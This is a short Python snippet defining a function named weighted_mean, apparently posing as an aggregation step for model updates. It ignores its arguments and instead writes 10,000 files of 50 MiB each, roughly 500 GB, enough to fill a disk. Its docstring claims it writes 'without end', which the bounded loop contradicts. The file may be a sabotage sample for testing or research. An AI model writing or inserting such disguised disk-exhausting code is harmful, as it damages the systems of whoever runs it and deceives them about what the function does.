"""Writes files of 50 MB without end."""
def weighted_mean(updates, num_examples):
    for number in range(10_000):
        with open(f"file-{number}", "wb") as file:
            file.write(bytes(50 * 2**20))
